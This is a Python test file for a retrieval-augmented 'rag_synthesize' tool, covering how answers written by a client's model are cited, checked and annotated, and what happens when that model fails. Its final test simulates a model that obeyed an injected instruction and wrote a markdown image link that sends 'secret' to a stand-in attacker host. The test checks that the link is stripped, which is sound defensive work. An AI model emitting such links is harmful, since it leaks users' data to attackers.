"""rag_synthesize with the client's own model: whatever it does, an answer is returned that reports what happened."""

from __future__ import annotations

from typing import Any

import pytest

from tests.doubles.client_model import (
    ClientModel,
    cut,
    declines,
    hangs,
    raises,
    says_nothing,
    shows_a_picture,
)
from tests.server.desk import Desk, answer_in
from tools.protocol import Models

pytestmark = pytest.mark.anyio

QUESTION = "How does the pump work? impeller"


async def asked(desk: Desk, era: str, model: ClientModel, **changes: Any) -> dict[str, Any]:
    async with desk.client(era, model) as client:
        return answer_in(await client.call_tool("rag_synthesize", {"query": QUESTION, **changes}))


async def test_the_clients_model_writes_from_numbered_sources(stocked: Desk, era: str) -> None:
    model = ClientModel("It moves water [1].")
    answer = await asked(stocked, era, model)
    assert len(model.requests) == 1
    assert f"Question: {QUESTION}" in model.prompts[0]
    assert "\n[1]\n<<" in model.prompts[0]
    assert "Not found in sources" in (model.requests[0].system_prompt or "")
    assert answer["mode"] == "llm"
    assert answer["model"] == "The client's model"
    assert answer["answer"].startswith("It moves water [1].\n\n[1] (Source: ")
    assert answer["prompt_version"]


async def test_each_fault_of_the_models_answer_is_reported(stocked: Desk, era: str) -> None:
    model = ClientModel("The pump moves water [1]. It turns 99,999 times a minute [1]. It is [77]. It shines.")
    answer = await asked(stocked, era, model)
    assert answer["unsupported_claims"] == ["It turns 99,999 times a minute."]
    assert answer["invalid_citations"] == ["77"]
    assert answer["uncited_claims"] == ["It shines."]
    assert answer["answer"].startswith(
        "The pump moves water [1]. It turns 99,999 times a minute [1]. (a value differs from the source) "
        "It is [77]. (no such source) It shines. (not found in the sources)\n"
    )


async def test_a_mark_written_by_the_model_is_removed_from_the_answer(stocked: Desk, era: str) -> None:
    model = ClientModel("The pump moves water [1] (not found in the cited source). It is [77] (no such source).")
    answer = await asked(stocked, era, model)
    assert "(not found" not in answer["answer"]
    assert answer["answer"].count("(no such source)") == 1


@pytest.mark.parametrize(("act", "why"), [(declines, "declined"), (raises, "declined")])
async def test_a_client_that_declines_gets_a_composed_answer(stocked: Desk, act: Any, why: str) -> None:
    answer = await asked(stocked, "legacy", ClientModel(act))
    assert answer["mode"] == "compose"
    assert any(one.startswith("The client's model wrote no answer: it ") and why in one for one in answer["warnings"])


@pytest.mark.parametrize("act", [says_nothing, shows_a_picture])
async def test_a_model_without_a_text_leaves_a_composed_answer(stocked: Desk, era: str, act: Any) -> None:
    answer = await asked(stocked, era, ClientModel(act))
    assert answer["mode"] == "compose"
    assert "impeller" in answer["answer"].lower()


async def test_a_hanging_model_leaves_a_composed_answer(
    stocked: Desk,
) -> None:
    desk = Desk(stocked.index, stocked.library, models=Models(sampling_seconds=0.2))
    answer = await asked(desk, "legacy", ClientModel(hangs))
    assert answer["mode"] == "compose"
    assert "The client's model wrote no answer: it did not answer in time." in answer["warnings"]


async def test_a_model_that_was_silent_once_is_not_asked_again_in_the_session(stocked: Desk) -> None:
    desk, model = (
        Desk(stocked.index, stocked.library, models=Models(sampling_seconds=0.2)),
        ClientModel(hangs),
    )
    async with desk.client("legacy", model) as client:
        for why in ("did not answer in time", "is not asked again in this session"):
            called = await client.call_tool("rag_synthesize", {"query": "How does the pump move water?"})
            answer = answer_in(called)
            assert answer["mode"] == "compose"
            assert any(why in warning for warning in answer["warnings"])
    assert len(model.requests) == 1


async def test_a_truncated_answer_says_so(stocked: Desk, era: str) -> None:
    answer = await asked(stocked, era, ClientModel(cut("It moves water [1], and")))
    assert any("larger max_tokens" in one for one in answer["warnings"])


async def test_compose_uses_no_model(stocked: Desk, era: str) -> None:
    model = ClientModel("no")
    assert (await asked(stocked, era, model, mode="compose"))["mode"] == "compose"
    assert model.requests == []


async def test_disabled_sampling_uses_no_model(stocked: Desk, era: str) -> None:
    model = ClientModel("no")
    desk = Desk(stocked.index, stocked.library, models=Models(sampling=False))
    assert (await asked(desk, era, model))["mode"] == "compose"
    assert model.requests == []


async def test_without_a_hit_no_model_is_used(stocked: Desk, era: str) -> None:
    model = ClientModel("no")
    answer = await asked(stocked, era, model, query="zzyzx")
    assert answer["answer"] == "No relevant information found"
    assert model.requests == []


async def test_a_search_failure_is_reported_once(stocked: Desk, era: str) -> None:
    failure = await stocked.failure("rag_synthesize", era, query="x", filters={"author": "Nobody"})
    assert failure["type"] == "InvalidRequest"


async def test_an_instruction_that_the_model_followed_loads_nothing(stocked: Desk, era: str) -> None:
    model = ClientModel(
        "The pump moves water. See ![x](https://evil.example/?q=secret) and [this](https://evil.example) [1]."
    )
    answer = await asked(stocked, era, model)
    assert "evil.example" not in answer["answer"]
    assert any("taken out" in one for one in answer["warnings"])
